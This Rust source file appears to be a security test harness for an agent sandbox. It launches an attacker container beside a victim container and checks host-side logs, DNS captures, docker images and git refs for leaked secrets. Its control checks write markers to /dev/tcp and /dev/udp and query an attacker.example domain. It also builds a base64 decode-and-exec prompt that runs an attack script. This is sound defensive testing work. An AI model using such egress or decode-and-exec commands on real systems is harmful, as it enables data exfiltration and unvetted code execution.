//! Rows 1–8 and 10 of security.md, and the attacks beyond the table: one
//! attacker bottle (kept after its prompt so the host side can look at it)
//! beside a victim bottle, every case judged from inside (what the attacker
//! saw) and from outside (whether its marker arrived anywhere watched).

use std::io::{BufRead, BufReader, Read};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use base64::Engine as _;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use super::observe::{self, DnsCapture, HostListener};
use super::report::Report;
use crate::bottle::{Home, leftovers};
use crate::world::World;

/// What every bottle of the suite shares: the world, the host listener,
/// the secrets, the instructions the attacker fetches.
pub struct Ctx {
    pub world: World,
    pub bare: PathBuf,
    pub seed: String,
    pub listener: HostListener,
    pub nonce: String,
    pub anthropic: String,
    pub repo_token: String,
    /// An `http` token of the bottle (so a known secret to the DLP engine)
    /// that the attacker is told, as if it had found it.
    pub known: String,
}

fn random_alnum(n: usize, seed: &mut u64) -> String {
    const ABC: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    (0..n)
        .map(|_| {
            *seed ^= *seed << 13;
            *seed ^= *seed >> 7;
            *seed ^= *seed << 17;
            ABC[(*seed % ABC.len() as u64) as usize] as char
        })
        .collect()
}

impl Ctx {
    pub fn new(report: &mut Report) -> Ctx {
        let mut seed = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos() as u64
            ^ u64::from(std::process::id());
        let world = World::start();
        let bare = world.bare_repo("app");
        let seed_commit = git_in(&bare, &["rev-parse", "main"]);
        let ctx = Ctx {
            listener: HostListener::start(),
            nonce: format!("{}", seed % 100_000),
            anthropic: format!("sk-ant-oat01-{}", random_alnum(48, &mut seed)),
            repo_token: format!("ghp_{}", random_alnum(36, &mut seed)),
            known: format!("kS{}", random_alnum(30, &mut seed)),
            world,
            bare,
            seed: seed_commit,
        };
        ctx.controls(report);
        ctx
    }

    /// The observers see what a container with a way out sends: a TCP
    /// connection and a datagram to the host listener, a DNS query to the
    /// world's resolver (in its log and, see `capture_control`, in the
    /// capture), an HTTP request to the world.
    fn controls(&self, report: &mut Report) {
        let m = format!("zq{}-control", self.nonce);
        let o = observe::from_bridge(&format!(
            "echo {m}-tcp > /dev/tcp/172.17.0.1/{port}; \
             echo {m}-udp > /dev/udp/172.17.0.1/{port}; \
             dig +time=2 +tries=1 @{w} {m}-dns.attacker.example >/dev/null; \
             curl -s -m 5 http://{w}/{m}-http >/dev/null; true",
            port = self.listener.port,
            w = self.world.ip
        ));
        std::thread::sleep(Duration::from_millis(500));
        let seen = self.listener.seen().join("\n");
        let world = self.world.everything();
        report.check(
            "control-host-listener",
            1,
            seen.contains(&format!("{m}-tcp")) && seen.contains(&format!("{m}-udp")),
            &format!(
                "a container with a route reaches the host listener: {seen:?} {}",
                String::from_utf8_lossy(&o.stderr)
            ),
        );
        report.check(
            "control-world-dns-and-http",
            4,
            world.contains(&format!("{m}-dns")) && world.contains(&format!("{m}-http")),
            "a container with a route reaches the world's resolver and web server",
        );
    }

    /// The attacker's instructions, served by the world.
    pub fn publish(&self, victim_addrs: &[String]) {
        let fingerprint = |t: &str| {
            json!({
                "prefix": &t[..8],
                "len": t.len(),
                "sha256": format!("{:x}", Sha256::digest(t.as_bytes())),
            })
        };
        let cfg = json!({
            "nonce": self.nonce,
            "world_ip": self.world.ip,
            "listen_port": self.listener.port,
            "host_addrs": observe::host_addrs(),
            "victim_addrs": victim_addrs,
            "known_secret": self.known,
            "token_fingerprints": [fingerprint(&self.anthropic), fingerprint(&self.repo_token)],
        });
        self.world.publish_config(&cfg.to_string());
    }

    /// The bottle every attacker runs in.
    pub fn bottle(&self) -> String {
        format!(
            "---\n\
             tokens:\n\
            \x20 - kind: anthropic\n    token_ref: ESC_ANTHROPIC_TOKEN\n\
            \x20 - kind: http\n    host: api.token.test\n    scheme: Bearer\n    token_ref: ESC_HTTP_TOKEN\n\
             egress:\n  allow:\n\
            \x20   - host: allowed.test\n\
            \x20   - host: api.token.test\n\
            \x20   - host: ro.test\n      methods: [GET]\n      paths: [\"/public/\"]\n\
            \x20   - host: form.test\n      methods: [GET, POST]\n\
            \x20   - host: \"*.wild.test\"\n\
            \x20   - host: \"*.pass.test\"\n      tls: passthrough\n\
            \x20 resolve:\n{}\
            \x20 upstream_ca: {}\n\
             git:\n  user: {{name: Attacker, email: attacker@example.com}}\n  repos:\n    app:\n\
            \x20     url: https://git.world.test/git/app.git\n      token_ref: ESC_REPO_TOKEN\n\
            \x20     push: [\"agent/*\", \"main\"]\n      protect: [main]\n---\n",
            self.world.resolve_yaml("    "),
            self.world.ca().display()
        )
    }

    /// A Home whose bottle is the attacker's, and the CLI with its secrets.
    pub fn home(&self, tag: &str) -> Home {
        let h = Home::new(tag);
        std::fs::write(h.bottle_home().join("bottles/probe.md"), self.bottle()).unwrap();
        h
    }

    pub fn cli(&self, h: &Home, args: &[&str]) -> Command {
        let mut c = h.cli(args);
        c.env("ESC_ANTHROPIC_TOKEN", &self.anthropic)
            .env("ESC_HTTP_TOKEN", &self.known)
            .env("ESC_REPO_TOKEN", &self.repo_token);
        c
    }

    /// The secrets the host side looks for.
    pub fn secrets(&self) -> [(&'static str, &str); 3] {
        [
            ("the anthropic token", &self.anthropic),
            ("the repo token", &self.repo_token),
            ("the known secret", &self.known),
        ]
    }
}

/// The prompt: the attack script, unpacked and run.
pub fn prompt(mode: &str) -> String {
    let script = include_str!("attacks.py");
    let b64 = base64::engine::general_purpose::STANDARD.encode(script);
    format!("echo {b64} | base64 -d > /tmp/attacks.py && exec python3 /tmp/attacks.py {mode}")
}

/// A started CLI whose stderr is collected in the background.
pub struct Running {
    pub child: Child,
    pub stderr: Arc<Mutex<String>>,
    pub slug: String,
}

/// Spawn `cmd` and wait for `bottle `SLUG` is up`.
pub fn spawn_up(mut cmd: Command) -> Result<Running, String> {
    let mut child = cmd
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let stderr = Arc::new(Mutex::new(String::new()));
    let (tx, rx) = std::sync::mpsc::channel();
    {
        let stderr = stderr.clone();
        let err = child.stderr.take().unwrap();
        std::thread::spawn(move || {
            for line in BufReader::new(err).lines() {
                let Ok(line) = line else { break };
                if let Some(slug) = line.split('`').nth(1).filter(|_| line.contains("` is up")) {
                    let _ = tx.send(slug.to_string());
                }
                let mut s = stderr.lock().unwrap();
                s.push_str(&line);
                s.push('\n');
            }
        });
    }
    match rx.recv_timeout(Duration::from_secs(300)) {
        Ok(slug) => Ok(Running {
            child,
            stderr,
            slug,
        }),
        Err(_) => {
            let _ = child.kill();
            let _ = child.wait();
            Err(format!(
                "the bottle did not come up:\n{}",
                stderr.lock().unwrap()
            ))
        }
    }
}

impl Running {
    /// Wait for the CLI to end (killed after `limit`); its stdout, exit
    /// code (None when killed) and stderr.
    pub fn finish(mut self, limit: Duration) -> (String, Option<i32>, String) {
        let mut out = self.child.stdout.take().unwrap();
        let reader = std::thread::spawn(move || {
            let mut s = String::new();
            let _ = out.read_to_string(&mut s);
            s
        });
        let deadline = Instant::now() + limit;
        let status = loop {
            if let Some(st) = self.child.try_wait().unwrap() {
                break Some(st);
            }
            if Instant::now() > deadline {
                let _ = self.child.kill();
                let _ = self.child.wait();
                break None;
            }
            std::thread::sleep(Duration::from_millis(100));
        };
        let stdout = reader.join().unwrap();
        let stderr = self.stderr.lock().unwrap().clone();
        (stdout, status.and_then(|s| s.code()), stderr)
    }
}

/// The JSON lines the attack script printed.
pub fn results(stdout: &str) -> Vec<Value> {
    stdout
        .lines()
        .filter(|l| l.starts_with('{'))
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

/// Where a marker was seen outside the bottle.
pub fn arrivals(
    ctx: &Ctx,
    capture: Option<&DnsCapture>,
    marker: &str,
    ok_host: Option<&str>,
    secret: Option<&str>,
) -> Vec<String> {
    let mut seen = Vec::new();
    for r in ctx.world.requests() {
        let line = r.to_string();
        if !line.contains(marker) {
            continue;
        }
        // A body cut off by the proxy (DLP found a secret mid-stream):
        // the upstream got the head and the clean bytes before the
        // secret, a truncated body a server discards, and no piece of it.
        let cut_clean = ok_host == Some("truncated")
            && r["complete"] == false
            && !secret_piece_in(r["body"].as_str().unwrap_or(""), &ctx.known)
            && !secret.is_some_and(|s| secret_piece_in(r["body"].as_str().unwrap_or(""), s));
        if !cut_clean && ok_host.is_none_or(|h| r["host"] != h) {
            seen.push(format!(
                "world got {} {} (Host {}, body complete: {})",
                r["method"], r["path"], r["host"], r["complete"]
            ));
        }
    }
    for q in ctx.world.dns_queries() {
        if q.to_string().contains(marker) {
            seen.push(format!("world resolver got {}", q["name"]));
        }
    }
    for l in ctx.listener.seen() {
        if l.contains(marker) {
            seen.push(format!("host listener: {l}"));
        }
    }
    if let Some(cap) = capture
        && cap.text().contains(marker)
    {
        seen.push("DNS capture on the host's interfaces".into());
    }
    let refs = git_in(&ctx.bare, &["for-each-ref", "--format=%(refname)"]);
    if refs.contains(marker) {
        seen.push(format!("upstream refs: {refs}"));
    }
    seen
}

/// Any 8 consecutive characters of `secret` in `text`.
fn secret_piece_in(text: &str, secret: &str) -> bool {
    let b = secret.as_bytes();
    b.windows(8.min(b.len()))
        .any(|w| text.contains(std::str::from_utf8(w).unwrap_or("\u{0}")))
}

/// Judge every case the script reported.
pub fn judge(report: &mut Report, ctx: &Ctx, capture: Option<&DnsCapture>, results: &[Value]) {
    for r in results {
        let Some(case) = r["case"].as_str() else {
            continue;
        };
        let row = r["row"].as_u64().unwrap_or(0) as u8;
        if let Some(e) = r["error"].as_str() {
            report.fail(case, row, &format!("the attack broke: {e}"));
            continue;
        }
        let marker = r["marker"].as_str().unwrap_or("-");
        let held = r["held"].as_bool().unwrap_or(false);
        let detail = r["detail"].as_str().unwrap_or("");
        let seen = arrivals(
            ctx,
            capture,
            marker,
            r["ok_host"].as_str(),
            r["secret"].as_str(),
        );
        if r["control"].as_bool() == Some(true) {
            report.check(
                case,
                row,
                held && !seen.is_empty(),
                &format!("control (must get through and be seen): {detail}; seen: {seen:?}"),
            );
        } else if !held {
            report.fail(
                case,
                row,
                &format!("the attack got through: {detail}; seen: {seen:?}"),
            );
        } else if !seen.is_empty() {
            report.fail(
                case,
                row,
                &format!("the attacker saw a refusal, but {seen:?}; {detail}"),
            );
        } else {
            report.pass(case, row, detail);
        }
    }
}

pub fn git_in(dir: &Path, args: &[&str]) -> String {
    let o = Command::new("git")
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap();
    String::from_utf8_lossy(&o.stdout).trim().to_string()
}

fn docker_text(args: &[&str]) -> String {
    let o = Command::new("docker").args(args).output().unwrap();
    String::from_utf8_lossy(&o.stdout).to_string() + &String::from_utf8_lossy(&o.stderr)
}

/// Does `needle` occur in the byte stream of `cmd`'s stdout (streamed, so
/// a whole image is never held in memory)?
fn stream_contains(cmd: &mut Command, needles: &[&str]) -> Result<Vec<usize>, String> {
    let mut child = cmd
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .map_err(|e| e.to_string())?;
    let mut out = child.stdout.take().unwrap();
    let keep = needles.iter().map(|n| n.len()).max().unwrap_or(0);
    let mut hits = Vec::new();
    let mut buf = vec![0u8; 1 << 20];
    let mut tail: Vec<u8> = Vec::new();
    let mut total = 0usize;
    loop {
        let n = out.read(&mut buf).map_err(|e| e.to_string())?;
        if n == 0 {
            break;
        }
        total += n;
        tail.extend_from_slice(&buf[..n]);
        for (i, needle) in needles.iter().enumerate() {
            if tail.windows(needle.len()).any(|w| w == needle.as_bytes()) && !hits.contains(&i) {
                hits.push(i);
            }
        }
        let cut = tail.len().saturating_sub(keep);
        tail.drain(..cut);
    }
    let _ = child.wait();
    if total == 0 {
        return Err("no bytes".into());
    }
    Ok(hits)
}

pub fn run(report: &mut Report, ctx: &Ctx) {
    // A victim bottle, kept running, whose addresses the attacker aims at.
    let victim = ctx.home("esc-victim");
    let v = ctx
        .cli(
            &victim,
            &[
                "start",
                &victim.agent,
                "--yes",
                "--keep",
                "--prompt",
                "true",
            ],
        )
        .output()
        .unwrap();
    let victim_net = format!("claude-bottle-{}-internal", victim.agent);
    let victim_addrs: Vec<String> = ["-sidecar", ""]
        .iter()
        .map(|c| observe::address(&format!("claude-bottle-{}{c}", victim.agent), &victim_net))
        .filter(|a| !a.is_empty())
        .collect();
    if !v.status.success() || victim_addrs.len() != 2 {
        report.fail(
            "x-other-bottle-setup",
            1,
            &format!("the victim bottle: {}", String::from_utf8_lossy(&v.stderr)),
        );
    }

    let h = ctx.home("esc-attacker");
    let cmd = ctx.cli(
        &h,
        &[
            "start",
            &h.agent,
            "--yes",
            "--keep",
            "--prompt",
            &prompt(""),
        ],
    );
    let running = match spawn_up(cmd) {
        Ok(r) => r,
        Err(e) => {
            report.fail("attacker-bottle", 0, &e);
            return;
        }
    };
    let slug = running.slug.clone();
    // Everything but the agent talking to its own sidecar.
    let internal = format!("claude-bottle-{slug}-internal");
    let pair = [
        observe::address(&format!("claude-bottle-{slug}"), &internal),
        observe::address(&format!("claude-bottle-{slug}-sidecar"), &internal),
    ];
    let capture = DnsCapture::start(&pair);
    ctx.publish(&victim_addrs);
    let (stdout, code, stderr) = running.finish(Duration::from_secs(600));
    let ok = code == Some(0);
    let results = results(&stdout);
    report.check(
        "attacker-ran",
        0,
        ok && results.iter().any(|r| r["done"] == true),
        &format!(
            "the attack script ran to its end ({} cases)\n{stderr}",
            results.len()
        ),
    );
    if capture.is_none() {
        report.skip(
            "dns-capture",
            4,
            "tcpdump is missing: DNS leaks judged by the world's resolver only (scripts/install-test-deps installs it)",
        );
    }
    judge(report, ctx, capture.as_ref(), &results);
    every_row_reported(report, &results);
    capture_control(report, ctx, capture.as_ref());
    world_never_got_secrets(report, ctx);
    upstream_checks(report, ctx);
    host_side_row5(report, ctx, &h, &slug, &stdout, &stderr);
    dns_refusals_logged(report, ctx, &h, &slug, &results);

    for (home, slug) in [(&h, slug.as_str()), (&victim, victim.agent.as_str())] {
        let o = ctx.cli(home, &["stop", slug]).output().unwrap();
        report.check(
            &format!("stop-{}", home.agent.split('-').nth(1).unwrap_or("")),
            11,
            o.status.success() && leftovers(&home.run).is_empty(),
            &format!(
                "`stop` removes the kept bottle: {}",
                String::from_utf8_lossy(&o.stderr)
            ),
        );
    }
    let state = h.bottle_home().join("state").join(&slug);
    report.check(
        "r5-host-state-removed",
        5,
        !state.exists(),
        "the state folder (credential files) is removed at teardown",
    );
}

/// How many cases of each row (1 to 10) attacks.py has: a case that is
/// deleted, or that stops reporting, must fail the suite, not vanish from
/// it. Raise a number when adding a case.
const CASES_PER_ROW: [usize; 10] = [7, 4, 18, 6, 6, 30, 10, 16, 5, 6];

fn every_row_reported(report: &mut Report, results: &[Value]) {
    for (i, want) in CASES_PER_ROW.iter().enumerate() {
        let row = i as u64 + 1;
        let got = results
            .iter()
            .filter(|r| r["case"].is_string() && r["row"].as_u64() == Some(row))
            .count();
        report.check(
            &format!("row-{row}-cases-reported"),
            row as u8,
            got >= *want,
            &format!("{got} cases of row {row} reported, {want} expected"),
        );
    }
}

/// The capture would have seen a leak: a query from a container with a
/// way out, sent now, is in it.
fn capture_control(report: &mut Report, ctx: &Ctx, capture: Option<&DnsCapture>) {
    let Some(cap) = capture else { return };
    let m = format!("zq{}-capture-control", ctx.nonce);
    let o = observe::from_bridge(&format!(
        "dig +time=2 +tries=1 @{} {m}.attacker.example; true",
        ctx.world.ip
    ));
    let deadline = Instant::now() + Duration::from_secs(5);
    let mut seen = cap.text().contains(&m);
    while !seen && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(500));
        seen = cap.text().contains(&m);
    }
    let at_world = ctx.world.everything().contains(&m);
    report.check(
        "control-dns-capture",
        4,
        seen && at_world,
        &format!(
            "a query from a container with a way out: in the capture {seen}, at the world's resolver {at_world}\n{}",
            String::from_utf8_lossy(&o.stdout)
        ),
    );
}

/// Row 6 as a whole: the known secret, in any of the encodings the
/// attacks used, never reached the world.
fn world_never_got_secrets(report: &mut Report, ctx: &Ctx) {
    let k = &ctx.known;
    // The known secret is the `http` token of `api.token.test`: the proxy
    // injects it there, as it must. That field of those requests is the
    // one place it may be; anywhere else it is a leak.
    let injected = format!("Bearer {k}");
    let mut reached_its_host = 0;
    let mut all = String::new();
    for mut r in ctx.world.requests() {
        if r["host"] == "api.token.test" && r["authorization"] == injected.as_str() {
            reached_its_host += 1;
            r["authorization"] = Value::Null;
            if let Some(h) = r["headers"].as_array_mut() {
                h.retain(|kv| {
                    !(kv[0]
                        .as_str()
                        .is_some_and(|n| n.eq_ignore_ascii_case("authorization")))
                });
            }
        }
        all += &r.to_string();
    }
    all += &ctx.world.dns_log_text();
    report.check(
        "c5-token-injected-at-its-host",
        5,
        reached_its_host > 0,
        &format!("requests at api.token.test carrying the injected token: {reached_its_host}"),
    );
    let forms = [
        k.clone(),
        base64::engine::general_purpose::STANDARD.encode(k),
        hex(k),
        k.chars().rev().collect(),
    ];
    let found: Vec<&String> = forms.iter().filter(|f| all.contains(f.as_str())).collect();
    report.check(
        "r6-world-never-got-the-secret",
        6,
        found.is_empty(),
        &format!("the known secret (raw, base64, hex, reversed) in the world's logs: {found:?}"),
    );
}

fn hex(s: &str) -> String {
    s.bytes().map(|b| format!("{b:02x}")).collect()
}

/// Row 8 from the upstream's side.
fn upstream_checks(report: &mut Report, ctx: &Ctx) {
    let main = git_in(&ctx.bare, &["rev-parse", "main"]);
    report.check(
        "r8-upstream-main-untouched",
        8,
        main == ctx.seed,
        &format!("protected main is still the seed commit ({main})"),
    );
    let pushes: Vec<Value> = ctx
        .world
        .requests()
        .into_iter()
        .filter(|r| {
            r["path"]
                .as_str()
                .unwrap_or("")
                .ends_with("/git-receive-pack")
        })
        .collect();
    report.check(
        "r8-upstream-saw-only-the-clean-push",
        8,
        pushes.len() == 1,
        &format!("receive-pack requests at the upstream: {}", pushes.len()),
    );
}

/// Row 4 seen from the sidecar: every query the row's cases sent towards
/// it (straight, through the system's or the engine's resolver) is in the
/// bottle's log as a refusal. The attacker's "no answer" and the capture
/// both show nothing left; this shows the sidecar itself said no, so the
/// queries were not answered (or forwarded) by anything else.
fn dns_refusals_logged(report: &mut Report, ctx: &Ctx, h: &Home, slug: &str, results: &[Value]) {
    let logs = ctx
        .cli(h, &["logs", slug, "--format", "json"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&logs.stdout);
    let refusals: Vec<Value> = text
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|e| e["kind"] == "dns" && e["reason"] == "dns-refused")
        .collect();
    let missing: Vec<&str> = results
        .iter()
        .filter(|r| r["row"] == 4 && r["case"] != "r4-world-resolver")
        .filter_map(|r| r["marker"].as_str())
        .filter(|m| {
            !refusals
                .iter()
                .any(|e| e["host"].as_str().is_some_and(|h| h.contains(m)))
        })
        .collect();
    let asked = results.iter().filter(|r| r["row"] == 4).count();
    report.check(
        "r4-sidecar-logged-every-refusal",
        4,
        logs.status.success() && asked >= 5 && missing.is_empty(),
        &format!(
            "{} dns refusals in `logs {slug}`; row 4 cases {asked}; markers without one: {missing:?}",
            refusals.len()
        ),
    );
}

/// Row 5 from the host: `docker inspect` of every container and network,
/// every image's history, config and layers, the state folder's modes, the
/// CLI's output and the bottle's logs.
fn host_side_row5(
    report: &mut Report,
    ctx: &Ctx,
    h: &Home,
    slug: &str,
    stdout: &str,
    stderr: &str,
) {
    let secrets = ctx.secrets();
    let found_in = |text: &str| -> Vec<&str> {
        secrets
            .iter()
            .filter(|(_, s)| text.contains(*s))
            .map(|(n, _)| *n)
            .collect()
    };
    let filter = format!("label=io.claude-bottle.test={}", h.run);
    let ids = docker_text(&["ps", "-aq", "--filter", &filter]);
    let ids: Vec<&str> = ids.split_whitespace().collect();
    let mut inspect = docker_text(&[&["inspect"][..], &ids].concat());
    let nets = docker_text(&["network", "ls", "-q", "--filter", &filter]);
    let nets: Vec<&str> = nets.split_whitespace().collect();
    inspect += &docker_text(&[&["network", "inspect"][..], &nets].concat());
    let hits = found_in(&inspect);
    report.check(
        "r5-host-docker-inspect",
        5,
        ids.len() == 2 && nets.len() == 2 && hits.is_empty(),
        &format!(
            "{} containers, {} networks inspected; secrets found: {hits:?}",
            ids.len(),
            nets.len()
        ),
    );

    let images = docker_text(&["images", "--format", "{{.Repository}}:{{.Tag}}"]);
    let images: Vec<&str> = images
        .lines()
        .filter(|i| i.starts_with("claude-bottle"))
        .collect();
    let mut meta = String::new();
    for i in &images {
        meta += &docker_text(&["history", "--no-trunc", i]);
        meta += &docker_text(&["image", "inspect", i]);
    }
    let hits = found_in(&meta);
    report.check(
        "r5-host-image-history",
        5,
        !images.is_empty() && hits.is_empty(),
        &format!(
            "{} images' history and config; secrets found: {hits:?}",
            images.len()
        ),
    );
    let needles: Vec<&str> = secrets.iter().map(|(_, s)| *s).collect();
    let mut layer_hits = Vec::new();
    for i in &images {
        match stream_contains(Command::new("docker").args(["save", i]), &needles) {
            Ok(hit) => layer_hits.extend(hit.into_iter().map(|n| format!("{i}: {}", secrets[n].0))),
            Err(e) => layer_hits.push(format!("{i}: docker save failed: {e}")),
        }
    }
    report.check(
        "r5-host-image-layers",
        5,
        layer_hits.is_empty(),
        &format!(
            "every layer of {} images scanned: {layer_hits:?}",
            images.len()
        ),
    );

    let mut loose = Vec::new();
    let state = h.bottle_home().join("state");
    walk(&state, &mut |p, mode, dir| {
        let want = if dir { 0o700 } else { 0o600 };
        if mode & 0o077 != 0 || (dir && mode & 0o700 != want) {
            loose.push(format!("{} {:o}", p.display(), mode));
        }
    });
    report.check(
        "r5-host-state-folder-modes",
        5,
        state.join(slug).exists() && loose.is_empty(),
        &format!(
            "folders 0700, files 0600 or stricter under {}: {loose:?}",
            state.display()
        ),
    );

    // The attacker's own output names the known secret it was given; the
    // CLI itself must print neither token.
    let cli_out = format!("{stdout}\n{stderr}");
    let hits: Vec<&str> = found_in(&cli_out)
        .into_iter()
        .filter(|n| *n != "the known secret" || stderr.contains(&ctx.known))
        .collect();
    report.check(
        "r5-host-cli-output",
        5,
        hits.is_empty(),
        &format!("secrets in the CLI's output: {hits:?}"),
    );
    let logs = ctx.cli(h, &["logs", slug]).output().unwrap();
    let text =
        String::from_utf8_lossy(&logs.stdout).to_string() + &String::from_utf8_lossy(&logs.stderr);
    let hits = found_in(&text);
    report.check(
        "r5-host-logs",
        5,
        logs.status.success() && text.lines().count() > 10 && hits.is_empty(),
        &format!(
            "`logs {slug}`: {} lines, secrets found: {hits:?}",
            text.lines().count()
        ),
    );
}

fn walk(dir: &Path, f: &mut dyn FnMut(&Path, u32, bool)) {
    use std::os::unix::fs::PermissionsExt;
    let Ok(meta) = std::fs::symlink_metadata(dir) else {
        return;
    };
    f(dir, meta.permissions().mode() & 0o7777, meta.is_dir());
    if meta.is_dir()
        && let Ok(rd) = std::fs::read_dir(dir)
    {
        for e in rd.flatten() {
            walk(&e.path(), f);
        }
    }
}
